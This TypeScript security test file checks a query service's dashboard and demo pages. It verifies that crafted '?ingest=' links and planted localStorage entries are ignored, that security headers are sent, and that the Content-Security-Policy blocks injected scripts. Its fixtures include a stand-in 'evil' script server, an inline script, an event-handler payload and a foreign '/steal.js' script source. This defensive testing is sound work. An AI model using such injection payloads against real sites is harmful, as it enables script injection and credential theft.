// The query service's pages in Chromium against a script-injection attacker: a link cannot point the
// demo at another script host (it shares its origin, hence localStorage, with the dashboard's read
// key), and the Content-Security-Policy blocks injected inline script on the dashboard and the demo,
// while the pages themselves (dashboard, demo with the real snippet from ingest, /docs) raise no
// violation at all.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { createTestDatabase, type TestDatabase, waitFor } from '@tracker/test-utils';
import { type LaunchedChromium, launchChromium } from '@tracker/test-utils/chromium';
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildDashboard, type RunningQuery, seedDashboard, startQuery } from './dashboard.harness.js';
import { type Pipeline, startPipeline } from './dashboard-stack.js';

/** Collects every CSP violation a page reports, before any of its own scripts runs. */
const RECORD_VIOLATIONS = `
  window.__csp = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    window.__csp.push(e.effectiveDirective + ' ' + (e.blockedURI || '?'));
  });
`;

let db: TestDatabase;
let pipeline: Pipeline;
let query: RunningQuery;
let browser: LaunchedChromium;
/** A server that must never be asked for anything: what a planted `?ingest=` points at. */
let evil: http.Server;
let evilUrl = '';
const evilRequests: string[] = [];

beforeAll(async () => {
  buildDashboard();
  evil = http.createServer((request, response) => {
    evilRequests.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    response.end('window.__pwned = 1;');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  db = await createTestDatabase('query_web_security');
  await seedDashboard(db.pool);
  pipeline = await startPipeline(db.url);
  query = await startQuery(db.url, { QUERY_DEMO_INGEST_URL: pipeline.ingest });
  browser = await launchChromium({ viewport: { width: 1280, height: 800 } });
  await browser.context.addInitScript({ content: RECORD_VIOLATIONS });
});

afterAll(async () => {
  await browser?.close();
  await query?.close();
  await pipeline?.close();
  await db?.drop();
  await new Promise((resolve) => evil?.close(resolve));
});

interface Watched {
  page: Page;
  requests: Request[];
  /** Console lines about the Content-Security-Policy, and uncaught page errors. */
  problems: string[];
}

async function open(): Promise<Watched> {
  const page = await browser.context.newPage();
  const watched: Watched = { page, requests: [], problems: [] };
  page.on('request', (request) => watched.requests.push(request));
  page.on('console', (message) => {
    if (/Content.Security.Policy/i.test(message.text())) watched.problems.push(message.text());
  });
  page.on('pageerror', (error) => watched.problems.push(error.message));
  return watched;
}

const violations = (page: Page) => page.evaluate<string[]>('window.__csp');

describe('the demo takes its ingest from the server only', () => {
  it('ignores ?ingest= and ?writeKey= in a link and a planted localStorage entry; loads nothing from there', async () => {
    const { page, requests, problems } = await open();
    // What the old demo.js stored after one visit to a crafted link.
    await page.goto(`${query.base}/demo/index.html`);
    await page.evaluate(
      `localStorage.setItem('demo.ingestUrl', ${JSON.stringify(evilUrl)}); localStorage.setItem('demo.writeKey', 'planted-key')`,
    );
    await page.goto(
      `${query.base}/demo/pricing.html?ingest=${encodeURIComponent(evilUrl)}&writeKey=planted-key#x`,
    );
    await page.waitForFunction('window.tracker && window.tracker.enabled === true');
    await page.click('#buy-pro');
    await page.evaluate('window.tracker.flush()');

    expect(evilRequests).toEqual([]);
    expect(requests.filter((r) => r.url().startsWith(evilUrl))).toEqual([]);
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    expect(
      await page.evaluate(`[localStorage.getItem('demo.ingestUrl'), localStorage.getItem('demo.writeKey')]`),
    ).toEqual([null, null]);
    // The snippet came from the configured ingest, and the events went there, without the planted key.
    const toIngest = requests.filter((r) => r.url().startsWith(pipeline.ingest));
    expect(toIngest.map((r) => new URL(r.url()).pathname)).toEqual(
      expect.arrayContaining(['/v1/tracker.js', '/v1/batch']),
    );
    for (const request of toIngest) {
      expect(request.url()).not.toContain('planted');
      expect(request.headers()['x-write-key']).toBeUndefined();
      expect(request.postData() ?? '').not.toContain(evilUrl);
    }
    expect(await page.textContent('#demo-who')).toContain(`events go to ${pipeline.ingest}`);
    expect(await violations(page)).toEqual([]);
    expect(problems).toEqual([]);
    await page.close();
  });
});

describe('security headers', () => {
  it('sends nosniff and a referrer policy everywhere, and a CSP per area', async () => {
    const ingestOrigin = new URL(pipeline.ingest).origin;
    const head = async (path: string) => (await fetch(`${query.base}${path}`)).headers;
    for (const path of [
      '/',
      '/demo/',
      '/demo/config.js',
      '/docs',
      '/api/interactions?limit=1',
      '/nope',
      '/api/x',
    ]) {
      const headers = await head(path);
      expect(headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(headers.get('referrer-policy'), path).toBe('strict-origin-when-cross-origin');
      const csp = headers.get('content-security-policy') ?? '';
      for (const directive of ["object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"])
        expect(csp, path).toContain(directive);
      expect(/script-src [^;]*'unsafe-inline'/.test(csp), path).toBe(false);
    }
    expect((await head('/')).get('content-security-policy')).toContain("script-src 'self'; ");
    expect((await head('/')).get('content-security-policy')).toContain("connect-src 'self'; ");
    const demo = (await head('/demo/')).get('content-security-policy');
    expect(demo).toContain(`script-src 'self' ${ingestOrigin};`);
    expect(demo).toContain(`connect-src 'self' ${ingestOrigin};`);
    const config = await (
      await fetch(`${query.base}/demo/config.js?ingest=${encodeURIComponent(evilUrl)}`)
    ).text();
    expect(config).toBe(`window.DEMO_CONFIG = ${JSON.stringify({ ingestUrl: pipeline.ingest })};\n`);
  });
});

describe('Content-Security-Policy in Chromium', () => {
  for (const [name, path, ready] of [
    ['dashboard', '/', 'main[data-state="ready"][aria-busy="false"]'],
    ['demo', '/demo/index.html', '#demo-who:not(:empty)'],
  ] as const) {
    it(`blocks script injected into the ${name} (inline, event handler, foreign src)`, async () => {
      const { page } = await open();
      await page.goto(`${query.base}${path}`);
      await page.waitForSelector(ready, { timeout: 20_000 });
      expect(await violations(page)).toEqual([]);
      await page.evaluate(`(() => {
        const inline = document.createElement('script');
        inline.textContent = 'window.__pwned = 1';
        document.body.append(inline);
        const div = document.createElement('div');
        div.innerHTML = '<img src="/favicon.svg?x" onload="window.__pwned = 2" onerror="window.__pwned = 3">';
        document.body.append(div);
        const foreign = document.createElement('script');
        foreign.src = ${JSON.stringify(`${evilUrl}/steal.js`)};
        document.body.append(foreign);
      })()`);
      const seen = await waitFor(
        async () => {
          const list = await violations(page);
          return list.length >= 3 ? list : undefined;
        },
        { timeoutMs: 10_000, what: 'three CSP violation reports' },
      );
      expect(seen.some((v) => v.startsWith('script-src-elem inline'))).toBe(true);
      expect(seen.some((v) => v.startsWith('script-src-attr inline'))).toBe(true);
      expect(seen).toContain(`script-src-elem ${evilUrl}/steal.js`);
      expect(await page.evaluate('window.__pwned')).toBeUndefined();
      expect(evilRequests).toEqual([]);
      await page.close();
    });
  }

  it('raises no violation on the dashboard, the demo pages and /docs in normal use', async () => {
    const { page, problems } = await open();
    await page.goto(`${query.base}/`);
    await page.waitForSelector('main[data-state="ready"][aria-busy="false"]', { timeout: 20_000 });
    await page.waitForSelector('[data-chart="actions"] canvas');
    await page.click('#theme-toggle');
    await page.selectOption('#f-role', 'GUEST');
    await page.waitForSelector('main[data-state="ready"][aria-busy="false"]');
    expect(await violations(page)).toEqual([]);

    for (const demo of ['index.html', 'pricing.html', 'signup.html?plan=pro', 'docs/getting-started.html']) {
      await page.goto(`${query.base}/demo/${demo}`);
      await page.waitForFunction('window.tracker && window.tracker.enabled === true');
      await page.evaluate('window.tracker.flush()');
      expect(await violations(page), demo).toEqual([]);
      // The sign-up page's plan pre-selection moved from an inline script into demo.js.
      if (demo.startsWith('signup')) expect(await page.inputValue('select[name="plan"]')).toBe('pro');
    }

    await page.goto(`${query.base}/docs`);
    await page.waitForSelector('.swagger-ui .opblock', { timeout: 20_000 });
    expect(await violations(page)).toEqual([]);
    expect(problems).toEqual([]);
    await page.close();
  });
});
